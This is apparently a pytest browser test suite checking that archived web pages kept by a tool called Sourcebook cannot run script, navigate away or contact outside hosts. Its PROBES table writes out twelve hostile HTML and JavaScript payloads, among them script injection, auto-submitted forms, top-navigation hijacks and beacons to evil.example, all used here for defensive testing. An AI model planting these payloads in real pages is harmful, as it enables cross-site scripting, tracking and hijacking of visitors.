"""A kept page that attacks: twelve probes in a page kept from outside, on the server and in a published folder.

Each probe is tried where the page stands in its frame and where it is opened by itself. No probe may succeed, and nothing may
be asked of the outside; a plain copy of the same page, opened without Sourcebook, does most of it.
"""

# ruff: noqa: E501 - hostile strings are read best in one piece
from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import hostile_library
import pytest
from hostile_library import put_hostile
from watched_browser import watched

from served_library import served
from sourcebook.library import Library

pytestmark = pytest.mark.browser
Record = Callable[[str, int, int], None]
PROBES = {
    "script": "<script>ran('script')</script><img src=x onerror=ran('handler')><svg onload=ran('svg')></svg>",
    "form": "<form id=f action='http://evil.example/form' method=post><input name=a value=b><button id=go>Go</button></form>"
    "<script>document.getElementById('f').submit()</script>",
    "top": "<a id=top href='http://evil.example/top' target=_top>leave</a><script>top.location='http://evil.example/top'</script>",
    "window": "<a id=window href='http://evil.example/window' target=_blank>open</a><script>open('http://evil.example/w')</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/refresh'><base href='http://evil.example/base/'>",
    "beacons": "<img src='http://evil.example/i.png'><img srcset='http://evil.example/s.png 1x'><link rel=stylesheet "
    "href='http://evil.example/c.css'><style>@import 'http://evil.example/d.css'; @font-face {font-family: x; src: "
    "url(http://evil.example/f.woff2)} body {font-family: x; background: url(http://evil.example/b.png)}</style>"
    "<video poster='http://evil.example/p.png' src='http://evil.example/v.mp4' autoplay></video><svg><image "
    "href='http://evil.example/svg.png'/></svg><body background='http://evil.example/back.png'>",
    "prefetch": "<link rel=prefetch href='http://evil.example/prefetch'><link rel=preload as=image href='http://evil.example/l'>"
    "<link rel=preconnect href='http://evil.example'><link rel=dns-prefetch href='http://evil.example'><link rel=modulepreload "
    "href='http://evil.example/m.js'><link rel=prerender href='http://evil.example/prerender'><link rel=icon "
    "href='http://evil.example/icon'><link rel=manifest href='http://evil.example/manifest'>",
    "iframe": "<iframe src='http://evil.example/frame'></iframe><iframe srcdoc=\"<script>parent.ran('srcdoc')</script>\"></iframe>"
    "<frameset><frame src='http://evil.example/frameset'></frameset>",
    "object": "<object data='http://evil.example/o'></object><embed src='http://evil.example/e'><applet code=x></applet>",
    "message": "<script>parent.postMessage('hello', '*'); ran('message')</script>",
    "worker": "<script>navigator.serviceWorker.register('/static/site.js').then(() => ran('worker'))</script>",
    "download": "<a id=download download href='data:application/octet-stream,x'>get</a><a id=own download "
    "href='/documents'>get</a><script>document.getElementById('download').click()</script><iframe "
    "src='data:application/octet-stream;base64,eA=='></iframe>",
}  # fmt: skip
CLICKS = ("top", "window", "download", "own", "go")


def test_there_are_twelve_probes() -> None:
    assert len(PROBES) == 12


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    patch = pytest.MonkeyPatch()
    patch.setattr(hostile_library, "_page", lambda vector, number: _page(vector))
    with Library.init(tmp_path_factory.mktemp("kept") / "library") as library:
        for number, probe in enumerate(PROBES.values()):
            put_hostile(library, probe, number)
        yield library
    patch.undo()


def _page(probe: str) -> bytes:
    return f"<!doctype html><html><head><title>Kept</title></head><body><p>Words of the page.</p>{probe}</body></html>".encode()


def _try(page: Any, place: Any) -> None:
    """Wait for what happens by itself, then do what a reader might."""
    place.locator("p", has_text="Words of the page.").first.wait_for()
    page.wait_for_timeout(50)
    for identifier in CLICKS:
        found = place.locator(f"#{identifier}")
        if found.count():
            found.first.click(no_wait_after=True, force=True)
            page.wait_for_timeout(80)


def _attack(chromium: Any, addresses: dict[str, tuple[str, str]]) -> list[str]:
    """What succeeded, of each probe in its frame and by itself; `addresses`: probe -> (page with the frame, page in it)."""
    wrong = []
    for name, (around, inside) in addresses.items():
        for address in (around, inside):
            with watched(chromium) as (page, seen):
                if address == around:
                    page.goto(address)
                    page.evaluate("addEventListener('message', () => console.log('RAN message'))")
                    _try(page, page.frame_locator("iframe.kept-page"))
                    assert page.locator("h1").count() == 1, "our own page is still there"
                else:
                    page.goto(address)
                    _try(page, page)
                done = [w for w in seen.wrong if not w.startswith("window about:blank")]
                wrong += [f"{name} in {'frame' if address == around else 'page'}: {w}" for w in done]
                wrong += [] if page.url == address else [f"{name}: led to {page.url}"]
    return wrong


def test_a_plain_copy_of_the_page_would_do_it(chromium: Any, tmp_path: Path) -> None:
    """The probes are real: opened as a file, the same bytes run script and ask outside."""
    asked, ran = set(), set()
    for name, probe in PROBES.items():
        (tmp_path / f"{name}.html").write_bytes(_page(probe))
        with watched(chromium) as (page, seen):
            page.goto((tmp_path / f"{name}.html").as_uri(), wait_until="commit")
            page.wait_for_timeout(150)
        asked |= {name} if seen.asked else set()
        ran |= {name} if seen.ran or seen.other else set()
    assert asked >= {"beacons", "iframe", "refresh"}
    assert ran >= {"script", "message"}


def _documents(library: Library) -> dict[str, str]:
    by_title = {d.title: d.id for d in library.view().iter_documents()}
    return {name: by_title[probe] for name, probe in PROBES.items()}


def test_no_probe_succeeds_on_the_server(chromium: Any, library: Library, record_trials: Record) -> None:
    with served(library) as home:
        addresses = {
            name: (f"{home}/documents/{identifier}/kept", f"{home}/documents/{identifier}/kept/page")
            for name, identifier in _documents(library).items()
        }
        wrong = _attack(chromium, addresses)
    record_trials("twelve probes, framed and alone, served", 24, len(wrong))
    assert not wrong, wrong


def test_no_probe_succeeds_in_a_published_folder(
    chromium: Any, library: Library, tmp_path: Path, record_trials: Record
) -> None:
    from test_stored_script import publish_all

    publish_all(library, tmp_path / "out")
    addresses = {
        name: ((tmp_path / f"out/kept/{i}.html").as_uri(), (tmp_path / f"out/evidence/pages/{i}.html").as_uri())
        for name, i in _documents(library).items()
    }
    wrong = _attack(chromium, addresses)
    record_trials("twelve probes, framed and alone, in a folder", 24, len(wrong))
    assert not wrong, wrong


def test_kept_bytes_in_a_folder_are_saved_not_opened(chromium: Any, library: Library, tmp_path: Path) -> None:
    from test_stored_script import publish_all

    publish_all(library, tmp_path / "out")
    blobs = sorted((tmp_path / "out/evidence/blobs").iterdir())
    assert len(blobs) == 12
    with watched(chromium) as (page, seen):
        for blob in blobs[:3]:
            with page.expect_download(), pytest.raises(Exception, match=r"Download|ABORTED"):
                page.goto(blob.as_uri())
        assert not seen.ran
        assert not seen.asked


def test_a_kept_page_looks_as_it_was(chromium: Any, library: Library) -> None:
    """Its words, its inline style and its pictures within are there; what comes from elsewhere is not."""
    picture = "data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs="
    probe = f"<p id=a style='color: rgb(1, 2, 3)'>styled</p><style>#b {{ color: rgb(4, 5, 6) }}</style><p id=b>sheet</p><img id=c src='{picture}'>"
    identifier = put_hostile(library, probe, 99)
    with served(library) as home, watched(chromium) as (page, seen):
        page.goto(f"{home}/documents/{identifier}/kept")
        frame = page.frame_locator("iframe.kept-page")
        colour = "e => getComputedStyle(e).color"
        assert frame.locator("#a").evaluate(colour) == "rgb(1, 2, 3)"
        assert frame.locator("#b").evaluate(colour) == "rgb(4, 5, 6)"
        assert frame.locator("#c").evaluate("e => e.naturalWidth") == 1
        assert not seen.wrong


def test_what_is_no_web_page_has_no_frame(library: Library) -> None:
    from fastapi.testclient import TestClient

    from sourcebook.app.web import create_app

    client = TestClient(create_app(library), base_url="http://127.0.0.1")
    answer = client.get("/documents/d-000000000000000000000000/kept/page")
    assert answer.status_code == 404
